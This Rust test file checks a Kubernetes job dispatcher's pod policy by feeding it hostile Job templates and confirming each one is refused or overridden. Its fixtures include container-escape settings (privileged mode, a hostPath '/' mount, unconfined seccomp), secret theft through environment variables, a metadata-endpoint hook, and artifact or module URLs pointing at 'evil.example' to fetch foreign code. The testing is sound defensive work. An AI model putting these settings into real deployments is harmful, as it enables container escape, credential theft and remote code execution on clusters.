//! The pod policy on rendered Jobs: one hostile template per invariant, each refused, and the
//! default template accepted; the same checks before any event is dispatched
//! (`check_template`).

mod support;

use jobico_dispatcher::policy::{self, Violation};
use jobico_dispatcher::render::{DEFAULT_TEMPLATE, RenderError, Renderer, check_template};
use jobico_model::EnvVar;
use support::{batch, sample};

const IMAGE: &str = "ghcr.io/coeux/wasm-exec:0.1.0";

/// The default template with `edit` applied: `(find, replace)`, `find` must occur.
fn edited(find: &str, replace: &str) -> String {
    assert!(
        DEFAULT_TEMPLATE.contains(find),
        "the default template has {find:?}"
    );
    DEFAULT_TEMPLATE.replacen(find, replace, 1)
}

fn violations(template: &str) -> Vec<Violation> {
    let owner = sample("ev1.yaml");
    match Renderer::new(IMAGE).render(&batch(&owner, &["e1"]), Some(template)) {
        Err(RenderError::Policy(violations)) => violations,
        other => panic!("expected a policy refusal, got {other:?}"),
    }
}

const POD: &str = "spec.template.spec";
const CONTAINER: &str = "spec.template.spec.containers[0]";
const SECURITY: &str = "spec.template.spec.containers[0].securityContext";

#[test]
fn the_default_template_meets_the_policy() {
    let owner = sample("ev1.yaml");
    let renderer = Renderer::new(IMAGE);
    renderer.render(&batch(&owner, &["e1"]), None).unwrap();
    renderer
        .render(&batch(&owner, &["e1"]), Some(DEFAULT_TEMPLATE))
        .unwrap();
    check_template(&renderer, &owner, None).unwrap();
    check_template(&renderer, &owner, Some(DEFAULT_TEMPLATE)).unwrap();
}

#[test]
fn every_hostile_template_is_refused() {
    let pod_spec = "      restartPolicy: Never\n";
    let add_to_pod = |line: &str| edited(pod_spec, &format!("{pod_spec}      {line}\n"));
    let container_security = "            allowPrivilegeEscalation: false\n";
    let add_to_container_security = |line: &str| {
        edited(
            container_security,
            &format!("{container_security}            {line}\n"),
        )
    };
    let container = "          terminationMessagePolicy: File\n";
    let add_to_container =
        |line: &str| edited(container, &format!("{container}          {line}\n"));
    let volumes = "      volumes:\n";
    let add_volume = |volume: &str| edited(volumes, &format!("{volumes}        - {volume}\n"));
    let cases: Vec<(&str, String, String)> = vec![
        (
            "token automount",
            edited(
                "automountServiceAccountToken: false",
                "automountServiceAccountToken: true",
            ),
            format!("{POD}.automountServiceAccountToken"),
        ),
        (
            "token automount left to the default",
            edited("      automountServiceAccountToken: false\n", ""),
            format!("{POD}.automountServiceAccountToken"),
        ),
        (
            "another service account",
            add_to_pod("serviceAccountName: jobico-dispatcher"),
            format!("{POD}.serviceAccountName"),
        ),
        (
            "the deprecated service account field",
            add_to_pod("serviceAccount: admin"),
            format!("{POD}.serviceAccount"),
        ),
        (
            "a projected token",
            add_volume(
                "{name: t, projected: {sources: [{serviceAccountToken: {path: token, audience: api}}]}}",
            ),
            format!("{POD}.volumes[0].projected.sources[0].serviceAccountToken"),
        ),
        (
            "host network",
            add_to_pod("hostNetwork: true"),
            format!("{POD}.hostNetwork"),
        ),
        (
            "host PID",
            add_to_pod("hostPID: true"),
            format!("{POD}.hostPID"),
        ),
        (
            "host IPC",
            add_to_pod("hostIPC: true"),
            format!("{POD}.hostIPC"),
        ),
        (
            "a hostPath volume",
            add_volume("{name: root, hostPath: {path: /}}"),
            format!("{POD}.volumes[0]"),
        ),
        (
            "a Secret the tenant may not read",
            add_volume("{name: s, secret: {secretName: db-password}}"),
            format!("{POD}.volumes[0]"),
        ),
        (
            "a projected Secret",
            add_volume("{name: s, projected: {sources: [{secret: {name: db-password}}]}}"),
            format!("{POD}.volumes[0].projected.sources[0]"),
        ),
        (
            "AppArmor unconfined by annotation",
            edited(
                "      annotations: {{json annotations}}\n",
                "      annotations: {\"container.apparmor.security.beta.kubernetes.io/wasm-exec\": unconfined}\n",
            ),
            "spec.template.metadata.annotations[\"container.apparmor.security.beta.kubernetes.io/wasm-exec\"]".into(),
        ),
        (
            "a persistent volume claim",
            add_volume("{name: data, persistentVolumeClaim: {claimName: other}}"),
            format!("{POD}.volumes[0]"),
        ),
        (
            "a node name",
            add_to_pod("nodeName: control-plane"),
            format!("{POD}.nodeName"),
        ),
        (
            "sysctls",
            edited(
                "        runAsNonRoot: true\n        runAsUser: 65532",
                "        sysctls: [{name: kernel.shm_rmid_forced, value: \"0\"}]\n        runAsNonRoot: true\n        runAsUser: 65532",
            ),
            format!("{POD}.securityContext.sysctls"),
        ),
        (
            "root in the pod",
            edited("runAsUser: 65532", "runAsUser: 0"),
            format!("{POD}.securityContext.runAsUser"),
        ),
        (
            "restartPolicy OnFailure",
            edited("restartPolicy: Never", "restartPolicy: OnFailure"),
            format!("{POD}.restartPolicy"),
        ),
        (
            "an init container",
            add_to_pod("initContainers: [{name: init, image: busybox}]"),
            format!("{POD}.initContainers"),
        ),
        (
            "an ephemeral container",
            add_to_pod("ephemeralContainers: [{name: debug, image: busybox}]"),
            format!("{POD}.ephemeralContainers"),
        ),
        (
            "a sidecar",
            edited(
                "      volumes:\n",
                "        - {name: sidecar, image: busybox}\n      volumes:\n",
            ),
            format!("{POD}.containers"),
        ),
        (
            "another image",
            edited("image: {{image}}", "image: \"evil.example/shell:latest\""),
            format!("{CONTAINER}.image"),
        ),
        (
            "another entrypoint",
            add_to_container("command: [\"/bin/sh\", \"-c\", \"id\"]"),
            format!("{CONTAINER}.command"),
        ),
        (
            "a renamed container",
            edited("- name: wasm-exec", "- name: other"),
            format!("{CONTAINER}.name"),
        ),
        (
            "a lifecycle hook",
            add_to_container(
                "lifecycle: {postStart: {httpGet: {host: 169.254.169.254, path: /, port: 80}}}",
            ),
            format!("{CONTAINER}.lifecycle"),
        ),
        (
            "a probe",
            add_to_container("livenessProbe: {tcpSocket: {host: 10.0.0.1, port: 6443}}"),
            format!("{CONTAINER}.livenessProbe"),
        ),
        (
            "a host port",
            add_to_container("ports: [{containerPort: 80, hostPort: 80}]"),
            format!("{CONTAINER}.ports[0].hostPort"),
        ),
        (
            "a secret in the environment",
            add_to_container("envFrom: [{secretRef: {name: other}}]"),
            format!("{CONTAINER}.envFrom[0]"),
        ),
        (
            "a secret in the environment, prefixed almost like the module's",
            add_to_container("envFrom: [{prefix: JOBICO_GUEST, secretRef: {name: other}}]"),
            format!("{CONTAINER}.envFrom[0]"),
        ),
        (
            "one key of a secret in the environment",
            edited(
                "          env: {{json env}}\n",
                "          env: [{name: STOLEN, valueFrom: {secretKeyRef: {name: other, key: k}}}]\n",
            ),
            format!("{CONTAINER}.env[0].valueFrom"),
        ),
        (
            "the guest's output as termination message",
            edited(
                "terminationMessagePolicy: File",
                "terminationMessagePolicy: FallbackToLogsOnError",
            ),
            format!("{CONTAINER}.terminationMessagePolicy"),
        ),
        (
            "privileged",
            add_to_container_security("privileged: true"),
            format!("{SECURITY}.privileged"),
        ),
        (
            "privilege escalation",
            edited(
                "allowPrivilegeEscalation: false",
                "allowPrivilegeEscalation: true",
            ),
            format!("{SECURITY}.allowPrivilegeEscalation"),
        ),
        (
            "added capabilities",
            edited(
                "drop: [\"ALL\"]",
                "drop: [\"ALL\"]\n              add: [\"SYS_ADMIN\"]",
            ),
            format!("{SECURITY}.capabilities.add"),
        ),
        (
            "capabilities kept",
            edited("drop: [\"ALL\"]", "drop: [\"NET_RAW\"]"),
            format!("{SECURITY}.capabilities.drop"),
        ),
        (
            "a writable root",
            edited(
                "readOnlyRootFilesystem: true",
                "readOnlyRootFilesystem: false",
            ),
            format!("{SECURITY}.readOnlyRootFilesystem"),
        ),
        (
            "root allowed",
            edited(
                "            runAsNonRoot: true\n",
                "            runAsNonRoot: false\n",
            ),
            format!("{SECURITY}.runAsNonRoot"),
        ),
        (
            "root in the container",
            add_to_container_security("runAsUser: 0"),
            format!("{SECURITY}.runAsUser"),
        ),
        (
            "seccomp unconfined",
            DEFAULT_TEMPLATE.replace("type: RuntimeDefault", "type: Unconfined"),
            format!("{SECURITY}.seccompProfile.type"),
        ),
        (
            "AppArmor unconfined",
            add_to_container_security("appArmorProfile: {type: Unconfined}"),
            format!("{SECURITY}.appArmorProfile.type"),
        ),
        (
            "an unmasked /proc",
            add_to_container_security("procMount: Unmasked"),
            format!("{SECURITY}.procMount"),
        ),
        (
            "an SELinux type that escapes",
            add_to_container_security("seLinuxOptions: {type: spc_t}"),
            format!("{SECURITY}.seLinuxOptions.type"),
        ),
        (
            "a Windows host process",
            add_to_container_security("windowsOptions: {hostProcess: true}"),
            format!("{SECURITY}.windowsOptions.hostProcess"),
        ),
        (
            "guest failures retried",
            edited("values: [{{json exitCodes.guestFailed}}]", "values: [99]"),
            "spec.podFailurePolicy".into(),
        ),
        (
            "no owner",
            edited("  ownerReferences:\n", "  x-ownerReferences:\n"),
            "metadata.ownerReferences".into(),
        ),
        (
            "another owner",
            edited(
                "uid: {{owner.uid}}",
                "uid: \"00000000-0000-0000-0000-000000000000\"",
            ),
            "metadata.ownerReferences".into(),
        ),
        (
            "parallel pods",
            edited("  backoffLimit:", "  parallelism: 5\n  backoffLimit:"),
            "spec.parallelism".into(),
        ),
        (
            "native code: the operator-only --trust-precompiled",
            edited(
                "          args: {{json args}}\n",
                "          args: [\"run\", \"--trust-precompiled\", \"/jobico/module/x.cwasm\"]\n",
            ),
            format!("{CONTAINER}.args[1]"),
        ),
        (
            "native code: --trust-precompiled before the subcommand",
            edited(
                "          args: {{json args}}\n",
                "          args: [\"--trust-precompiled=true\", \"run\"]\n",
            ),
            format!("{CONTAINER}.args[0]"),
        ),
        (
            "a manual selector",
            edited(
                "  backoffLimit:",
                "  manualSelector: true\n  selector: {matchLabels: {app: other}}\n  backoffLimit:",
            ),
            "spec.manualSelector".into(),
        ),
    ];
    for (what, template, path) in cases {
        let found = violations(&template);
        assert!(
            found.iter().any(|v| v.path == path),
            "{what}: expected a violation at {path}, got {}",
            policy::describe(&found)
        );
    }
}

#[test]
fn the_modules_variables_are_the_dispatchers_whatever_the_template_writes() {
    // A template writing module variables of its own (a Secret the event does not name, or a
    // value replacing the event's) loses them: the module gets exactly what its event declares.
    let template = edited(
        "          env: {{json env}}\n",
        "          env: [{name: JOBICO_GUEST_STOLEN, valueFrom: {secretKeyRef: {name: other, key: k}}}, {name: JOBICO_GUEST_MODE, value: forged}]\n          envFrom: [{prefix: JOBICO_GUEST_, secretRef: {name: other}}]\n",
    );
    let mut owner = (*sample("ev1.yaml")).clone();
    owner.spec.events[0].env = serde_json::from_value(serde_json::json!([
        {"name": "MODE", "value": "declared"},
        {"name": "PASSWORD", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}},
    ]))
    .unwrap();
    let owner = std::sync::Arc::new(owner);
    let job = Renderer::new(IMAGE)
        .render(&batch(&owner, &["e1"]), Some(&template))
        .unwrap();
    let container = &job.spec.unwrap().template.spec.unwrap().containers[0];
    let env: Vec<_> = container
        .env
        .iter()
        .flatten()
        .filter(|var| var.name.starts_with("JOBICO_GUEST_"))
        .map(|var| serde_json::to_value(var).unwrap())
        .collect();
    assert_eq!(
        env,
        [
            serde_json::json!({"name": "JOBICO_GUEST_MODE", "value": "declared"}),
            serde_json::json!({"name": "JOBICO_GUEST_PASSWORD", "valueFrom": {"secretKeyRef": {"name": "db", "key": "password"}}}),
        ]
    );
    assert_eq!(container.env_from, None);
}

#[test]
fn allowed_volumes_pass() {
    let owner = sample("ev1.yaml");
    let template = edited(
        "      volumes:\n",
        "      volumes:\n        - {name: scratch, emptyDir: {sizeLimit: 1Mi}}\n        - {name: info, downwardAPI: {items: [{path: labels, fieldRef: {fieldPath: metadata.labels}}]}}\n        - {name: both, projected: {sources: [{configMap: {name: extra}}, {downwardAPI: {items: [{path: name, fieldRef: {fieldPath: metadata.name}}]}}]}}\n",
    );
    Renderer::new(IMAGE)
        .render(&batch(&owner, &["e1"]), Some(&template))
        .unwrap();
}

#[test]
fn the_exec_environment_must_fit_one_execve() {
    // One granted variable over the kernel's per-string limit, then many within it but over
    // the total: both are the resource's settings, refused before any event.
    let mut owner = (*sample("ev1.yaml")).clone();
    owner.spec.events[0].env = vec![EnvVar::value("BIG", &"v".repeat(200_000))];
    let renderer = Renderer::new(IMAGE);
    let owner = std::sync::Arc::new(owner);
    let message = check_template(&renderer, &owner, None).unwrap_err();
    assert!(message.contains("containers[0].env["), "{message}");
    assert!(
        message.contains("JOBICO_GUEST_BIG is 200018 bytes"),
        "{message}"
    );
    let mut owner = (*owner).clone();
    owner.spec.events[0].env = (0..12)
        .map(|i| EnvVar::value(&format!("V{i}"), &"v".repeat(100_000)))
        .collect();
    let owner = std::sync::Arc::new(owner);
    // A small batch fits; the largest one the resource can get does not.
    renderer.render(&batch(&owner, &["e1"]), None).unwrap();
    let message = check_template(&renderer, &owner, None).unwrap_err();
    assert!(
        message.contains("containers[0].env: arguments and environment take"),
        "{message}"
    );
}

#[test]
fn a_template_that_copies_the_events_fails_the_largest_batch() {
    // Fine for small events; twice the events do not fit a Kubernetes object.
    let copy = edited(
        "      annotations: {{json annotations}}\n",
        "      annotations:\n{{#each env}}\n        {{name}}: {{value}}\n{{/each}}\n",
    );
    let owner = sample("ev1.yaml");
    let renderer = Renderer::new(IMAGE);
    renderer
        .render(&batch(&owner, &["e1"]), Some(&copy))
        .unwrap();
    let message = check_template(&renderer, &owner, Some(&copy)).unwrap_err();
    assert!(message.starts_with("event \"ev1\": "), "{message}");
}

#[test]
fn the_artifact_variables_are_the_dispatchers_whatever_the_template_writes() {
    use jobico_common::executor::{ARTIFACT_VARS, ArtifactRef, Sha256Digest};
    let owner = sample("ev1.yaml");
    let renderer = Renderer::new(IMAGE);
    // A template pointing the executor at the tenant's own server and code.
    let hostile = edited(
        "          env: {{json env}}\n",
        "          env:\n            - {name: JOBICO_ARTIFACT_URL, value: \"http://evil.example/x\"}\n            - {name: JOBICO_ARTIFACT_DIGEST, value: \"0000000000000000000000000000000000000000000000000000000000000000\"}\n            - {name: JOBICO_ARTIFACT_MODULE, value: \"1111111111111111111111111111111111111111111111111111111111111111\"}\n            - {name: JOBICO_ARTIFACT_TOKEN, value: \"t\"}\n            - {name: JOBICO_EVENTS, value: \"[]\"}\n            - {name: JOBICO_MODULE, value: \"/jobico/module/echo.wasm\"}\n",
    );
    let artifact_env = |job: &k8s_openapi::api::batch::v1::Job| -> Vec<(String, String)> {
        job.spec
            .as_ref()
            .unwrap()
            .template
            .spec
            .as_ref()
            .unwrap()
            .containers[0]
            .env
            .iter()
            .flatten()
            .filter(|v| ARTIFACT_VARS.contains(&v.name.as_str()))
            .map(|v| (v.name.clone(), v.value.clone().unwrap_or_default()))
            .collect()
    };
    let without = renderer
        .render(&batch(&owner, &["e1"]), Some(&hostile))
        .unwrap();
    assert_eq!(
        artifact_env(&without),
        [],
        "the template's variables are removed"
    );
    let ours = ArtifactRef {
        url: "http://jobico-artifacts.jobico-system.svc:8083/v1/artifacts/default/m.t".into(),
        digest: Sha256Digest::of(b"code"),
        module: Sha256Digest::of(b"module"),
        token: "token".into(),
    };
    let expected: Vec<(String, String)> = ours
        .env()
        .into_iter()
        .map(|(n, v)| (n.to_owned(), v))
        .collect();
    for template in [None, Some(hostile.as_str())] {
        let job = renderer
            .render_with_module(
                &batch(&owner, &["e1"]),
                template,
                &jobico_dispatcher::render::ModuleDelivery {
                    artifact: Some(ours.clone()),
                    uploaded: None,
                },
            )
            .unwrap();
        assert_eq!(
            artifact_env(&job),
            expected,
            "only the dispatcher's, once each"
        );
    }
}

#[test]
fn an_uploaded_module_is_named_by_the_dispatcher_and_mounted_by_no_template() {
    use jobico_common::executor::{MODULE_VARS, Sha256Digest, UploadedModuleRef};
    use jobico_dispatcher::render::ModuleDelivery;
    let digest = Sha256Digest::of(b"a large module");
    let mut owner = (*sample("ev1.yaml")).clone();
    owner.spec.events[0].wasm = format!("sha256:{digest}");
    let owner = std::sync::Arc::new(owner);
    let renderer = Renderer::new(IMAGE);
    // A template that keeps the module volume and writes the module variables itself.
    let hostile = edited(
        "          env: {{json env}}\n",
        "          env:\n            - {name: JOBICO_MODULE_URL, value: \"http://evil.example/x.wasm\"}\n            - {name: JOBICO_MODULE_DIGEST, value: \"0000000000000000000000000000000000000000000000000000000000000000\"}\n            - {name: JOBICO_MODULE_TOKEN, value: \"t\"}\n            - {name: JOBICO_EVENTS, value: \"[]\"}\n            - {name: JOBICO_MODULE, value: \"/jobico/module/m.wasm\"}\n",
    );
    let ours = UploadedModuleRef {
        url: format!(
            "http://jobico-artifacts.jobico-system.svc:8083/v1/artifacts/default/{digest}.wasm"
        ),
        digest,
        token: "token".into(),
    };
    let expected: Vec<(String, String)> = ours
        .env()
        .into_iter()
        .map(|(n, v)| (n.to_owned(), v))
        .collect();
    let delivery = ModuleDelivery {
        artifact: None,
        uploaded: Some(ours.clone()),
    };
    for template in [None, Some(hostile.as_str())] {
        let job = renderer
            .render_with_module(&batch(&owner, &["e1"]), template, &delivery)
            .unwrap();
        let pod = job.spec.as_ref().unwrap().template.spec.as_ref().unwrap();
        let container = &pod.containers[0];
        let env: Vec<(String, String)> = container
            .env
            .iter()
            .flatten()
            .filter(|v| MODULE_VARS.contains(&v.name.as_str()) || v.name == "JOBICO_MODULE")
            .map(|v| (v.name.clone(), v.value.clone().unwrap_or_default()))
            .collect();
        assert_eq!(env, expected, "only the dispatcher's, and no module path");
        assert!(
            pod.volumes.iter().flatten().all(|v| v.config_map.is_none()),
            "no volume of the module ConfigMap: {:?}",
            pod.volumes
        );
        assert!(container.volume_mounts.iter().flatten().next().is_none());
    }
    // The template check sees the same: both pass.
    check_template(&renderer, &owner, Some(&hostile)).unwrap();
    check_template(&renderer, &owner, None).unwrap();
}
